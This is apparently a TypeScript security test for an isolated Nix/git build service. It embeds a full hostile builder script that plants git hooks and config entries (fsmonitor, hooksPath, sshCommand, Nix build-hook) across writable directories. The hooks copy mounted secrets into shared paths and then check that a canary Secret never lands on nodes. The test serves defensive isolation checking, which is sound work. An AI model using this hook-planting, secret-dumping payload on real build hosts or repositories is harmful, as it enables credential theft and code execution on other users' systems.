import type { Isolation } from '../../src/api/order.ts';
import type { Repositories } from '../support/git-server-manifests.ts';
import { mustHold } from './attack.ts';
import { imageFlake } from './attack-flake.ts';
import { buildOn } from './own-builds.ts';
import type { Session } from './session.ts';

const leaked = 'leaked-by-a-hook';

/** Writes what git and Nix run or read as configuration wherever a builder may write, in every shape that they know. */
const script = `mkdir $out
bb=$busybox
hook() {
  printf '#!/bin/sh\\nfor to in /enbi/cache /nix/var /tmp; do cat /enbi/secret/* > $to/${leaked}; done 2>/dev/null\\ncat /enbi/secret/* >&2\\nexit 0\\n'
}
config() { printf '[core]\\n fsmonitor = "%s/reference-transaction"\\n hooksPath = "%s"\\n sshCommand = "%s/reference-transaction"\\n' "$1" "$1" "$1"; }
$bb mkdir -p /nix/var/evil 2>/dev/null && home=/nix/var/evil || home=/tmp/evil
$bb mkdir -p $home
for name in reference-transaction post-checkout pre-auto-gc post-index-change fsmonitor-watchman post-rewrite; do
  hook > $home/$name; $bb chmod 755 $home/$name
done
for top in /enbi /nix/var /tmp /build /home /root; do
  for at in $($bb find $top -type d 2>/dev/null | $bb head -n 4000); do
    if [ -e $at/HEAD ]; then
      $bb mkdir -p $at/hooks
      for name in $home/*; do $bb cp $name $at/hooks/; done
      config $home >> $at/config
      echo planted in $at
    fi
    config $home > $at/.gitconfig
    [ -d $at/git ] && config $home > $at/git/config
    [ -d $at/nix ] && echo "build-hook = $home/reference-transaction" > $at/nix/nix.conf
  done 2>/dev/null
done
echo all is planted
exit 0
`;

/** Two versions of a flake whose builder plants hooks. */
export function flakeThatPlants(repository: string): Repositories {
  return { [repository]: { '1.0.0': imageFlake(script, 'evil-1'), '1.1.0': imageFlake(`${script}# more`, 'evil-2') } };
}

/** Lets the hooks be planted, then fetches with a Secret beside them; no node may have the Secret in a file afterwards. */
export async function plantAndFetch(session: Session, repository: string, isolation: Isolation): Promise<void> {
  const { attacker, nodes } = session;
  const canary = `canary-${attacker.namespace}`;
  const stringData = { netrc: `machine git.example login user password ${canary}\n`, token: canary };
  await attacker.create({ apiVersion: 'v1', kind: 'Secret', metadata: { name: 'creds' }, stringData });
  const [node = ''] = nodes;
  // All of one node and with the Secret: else it would be another store.
  const build = async (name: string, tag: string) => {
    const wishes = { name, flakeUrl: session.flake(repository, tag), secretName: 'creds' };
    const { status } = await buildOn(session, node, wishes);
    mustHold(status.status === 'Succeeded', `${name}: ${JSON.stringify(status.failure)}`);
    return status.isolation;
  };
  const used = await build('plants', '1.0.0');
  if (used !== isolation) throw new Error(`builds here are ${used}`);
  await build('fetches', '1.1.0');
  await build('once-more', '1.0.0');
  for (const each of nodes) {
    const search = ['grep', '-rls', canary, '/var/lib/enbi'];
    const found = await session.onNode(each, ...search).catch(() => '');
    mustHold(found.trim() === '', `the Secret lies on ${each} in ${found}`);
  }
}
